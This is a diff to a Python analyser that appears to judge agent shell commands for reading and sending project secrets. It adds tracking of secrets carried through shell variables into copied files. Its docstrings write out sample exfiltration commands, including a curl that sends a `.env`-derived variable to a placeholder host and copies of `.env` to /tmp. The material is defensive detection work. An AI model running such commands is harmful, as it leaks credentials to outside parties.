@@ -106,11 +106,12 @@ def analyse(command: str, *, cwd: str, home: str, workspace: str | None = None, 
     a = through_terminal(a, command, commands)
     if rewrites and compiled is not None and a.rewrites:
         a = through_git(a, compiled, ask_git=ask_git)
-    if tainted and zones.carried:
-        a = through_tainted(a, command, tainted, zones.carried[0])
+    expands = tainted_expansion(command, tainted) if zones.carried else None
+    if expands is not None:
+        a = through_tainted(a, expands, zones.carried[0])
     if content and zones.carried:     # after the git step: what a git command sends from its commits is read there
         a = through_carried(a, compiled or zones.compile(workspace, home, tmp, places, aliases, mounts), zones.carried,
-                            commands, globs, disk)
+                            commands, globs, disk, tainted=expands)
     if content and zones.carried and rewrites and a.kind == SENDING_KIND:   # only `touched` (rewrites) reads it
         a = through_typed_secrets(a, compiled or zones.compile(workspace, home, tmp, places, aliases, mounts),
                                   zones.carried, command, workspace or cwd, disk)
@@ -122,7 +123,7 @@ def analyse(command: str, *, cwd: str, home: str, workspace: str | None = None, 
                                              zones.carried, globs))
     if copies and zones.carried:
         a = replace(a, copies=carried_copies(a, compiled or zones.compile(workspace, home, tmp, places, aliases, mounts),
-                                             zones.carried, globs, disk))
+                                             zones.carried, globs, disk, tainted=expands is not None))
     return replace(a, unfollowed=unfollowed)
 
 
@@ -159,14 +160,18 @@ def through_approval(a: Analysis, zones: Zones, table: CommandTable) -> Analysis
                                         "a human approves it)",))
 
 
-def through_tainted(a: Analysis, command: str, tainted: tuple[str, ...], zone: str) -> Analysis:
-    """`a` reading `zone` (the project's secrets) where the command expands one of the `tainted` variables: a shell
-    kept from one command to the next (tmux, the Anthropic API's bash tool) holds `K` after `K=$(cat .env)`, so a later
-    `curl "https://x/?k=$K"` carries the secret though no file is named and no value is typed. The expansion is found
-    in the text (`$K`, `${K}`, `${K:0:4}`, `${#K}`, `${!K}`), where it is written, quoted or not: a command that assigns
-    the name again before it expands it is counted too."""
-    found = next((n for n in tainted if re.search(r"\$\{?[#!]?" + re.escape(n) + r"(?!\w)", command)), None)
-    if found is None or ("read", zone) in a.touched:
+def tainted_expansion(command: str, tainted: tuple[str, ...]) -> str | None:
+    """The first of the `tainted` variables the command's text expands (`$K`, `${K}`, `${K:0:4}`, `${#K}`, `${!K}`),
+    quoted or not, where it is written: a command that assigns the name again before it expands it is counted too."""
+    return next((n for n in tainted if re.search(r"\$\{?[#!]?" + re.escape(n) + r"(?!\w)", command)), None)
+
+
+def through_tainted(a: Analysis, found: str, zone: str) -> Analysis:
+    """`a` reading `zone` (the project's secrets) where the command expands `found`, a variable an earlier command
+    assigned from it (tainted_expansion): a shell kept from one command to the next (tmux, the Anthropic API's bash
+    tool) holds `K` after `K=$(cat .env)`, so a later `curl "https://x/?k=$K"` carries the secret though no file is
+    named and no value is typed, and a later `printf %s "$K" > /tmp/k` copies it (through_carried, carried_copies)."""
+    if ("read", zone) in a.touched:
         return a
     return replace(a, touched=ordered({**dict.fromkeys(a.touched), ("read", zone): None}),
                    account=a.account + (f"read ${found} ({zone}): an earlier command of this shell assigned it from "
@@ -213,12 +218,12 @@ def assigned_names(command: str) -> tuple[str, ...]:
 
 
 def through_carried(a: Analysis, zones: Zones, carried: tuple[str, ...], table: CommandTable,
-                    globs: dict[str, list[str] | None], disk: "_Walk") -> Analysis:
+                    globs: dict[str, list[str] | None], disk: "_Walk", *, tainted: str | None = None) -> Analysis:
     """`a` unknown where it reads a file of a `carried` zone by name (`.env`) and writes a file of another zone (`cp
     .env /tmp/e`, `grep KEY .env > notes.txt`): the copy is no secret by name, and the command that sends it later
     is judged on its own, so a human approves the copy. A folder read whole (`grep -r x . > /tmp/o`) is not counted
     for what it holds: every recursive read of the project meets the secrets in it. `globs`: the analysis's glob
-    matches read so far (_matches)."""
+    matches read so far (_matches). `tainted`: a variable the command expands that holds one (tainted_expansion)."""
     # the zone of the name written (a secret moved whole keeps its name's zone: `mv .env .env.old`); no disk read
     written = [(path, z) for accesses, path, _ in a.paths if "write" in accesses for z in _zones_of(zones, path)
                if z not in carried]
@@ -226,7 +231,7 @@ def through_carried(a: Analysis, zones: Zones, carried: tuple[str, ...], table: 
                 for z in zones.of(comps, dot_rule=True) if z not in carried]
     if not written:
         return a
-    read = _carried_read(a, zones, carried, globs)
+    read = (f"${tainted}", carried[0]) if tainted is not None else _carried_read(a, zones, carried, globs)
     if read is None:
         read = _carried_whole(a, zones, carried, written, globs, disk)
     if read is None:
@@ -280,7 +285,7 @@ NOT_COPIES = ("/dev/", "/proc/", "/sys/")   # writes that leave no file behind (
 
 
 def carried_copies(a: Analysis, zones: Zones, carried: tuple[str, ...], globs: dict[str, list[str] | None],
-                   disk: "_Walk") -> tuple[str, ...]:
+                   disk: "_Walk", *, tainted: bool = False) -> tuple[str, ...]:
     """The paths `a` writes that may hold what it reads of a `carried` zone (`cp .env /tmp/e`, `head -c 8 .env >
     /tmp/a`, `tar czf /tmp/p.tgz .` of a folder holding one on disk now, `git log -p > /tmp/x` and the other printers
     and copiers of commits, `cat /tmp/e > /tmp/f` of an earlier copy): a later command that reads one of them reads
@@ -295,7 +300,7 @@ def carried_copies(a: Analysis, zones: Zones, carried: tuple[str, ...], globs: d
             and not (recursive and any(within(path, (w,)) or within(w, (path,)) for w in whole))]
     if not kept:
         return ()
-    reads = (_carried_read(a, zones, carried, globs) is not None
+    reads = (tainted or _carried_read(a, zones, carried, globs) is not None
              or any(r.sub in _COPIES_COMMITS or prints_stash(r.sub, r.args)
                     or (r.sub in PRINTS and prints_content(r.sub, r.args)) for r in a.rewrites))
     if not reads and whole:
